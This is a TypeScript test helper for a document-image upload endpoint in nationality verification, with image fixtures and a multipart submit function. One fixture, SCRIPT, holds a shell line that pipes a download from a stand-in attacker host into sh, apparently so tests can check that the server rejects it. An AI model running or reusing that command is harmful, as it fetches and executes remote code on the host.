import type { TestServer } from '../../../test-support/test-server';
import type { Member } from '../participation/members';

/** A real 1x1 PNG, GIF and JPEG: the server decodes and re-encodes each (docs/decisions.md, Nationality verification with documents). */
export const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
export const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
export const JPEG = Buffer.from(
  '/9j/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAABAAEDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAj/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AKpAB//Z',
  'base64',
);
/** The start of a JPEG and nothing to decode: a JPEG to file-type, damaged to the decoder. */
export const DAMAGED_JPEG = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]),
  Buffer.alloc(64),
  Buffer.from([0xff, 0xd9]),
]);
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://attacker.example/x | sh\n');
export const MAX_BYTES = 5 * 1024 * 1024;

/** A PNG padded after its end to exactly `size` bytes (still a PNG by its content). */
export const pngOfSize = (size: number) => Buffer.concat([PNG, Buffer.alloc(size - PNG.length)]);

export interface Upload {
  country?: string;
  nationalId?: string;
  file?: { bytes: Uint8Array; name: string; type: string; field?: string };
  /** Further files (refused: one document only). */
  extraFiles?: Array<{ bytes: Uint8Array; name: string; type: string; field?: string }>;
}

/** POST /api/user/verifications as the manager dialog sends it: multipart with the document image. */
export async function submitWithDocument(
  server: TestServer,
  member: Member,
  upload: Upload,
  headers: Record<string, string> = {},
): Promise<{ status: number; body: any }> {
  const form = new FormData();
  if (upload.country !== undefined) form.set('country', upload.country);
  if (upload.nationalId !== undefined) form.set('nationalId', upload.nationalId);
  for (const file of [...(upload.file ? [upload.file] : []), ...(upload.extraFiles ?? [])]) {
    form.append(file.field ?? 'documentImage', new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name);
  }
  const response = await fetch(`${server.baseUrl}/api/user/verifications`, {
    method: 'POST',
    headers: { cookie: member.browser.cookieHeader, ...headers },
    body: form,
  });
  const body = (await response.json()) as { position?: string };
  if (body?.position && (!member.browser.position || body.position > member.browser.position)) member.browser.position = body.position;
  return { status: response.status, body };
}

export const pngUpload = (country: string, nationalId: string): Upload => ({
  country,
  nationalId,
  file: { bytes: PNG, name: 'passport.png', type: 'image/png' },
});
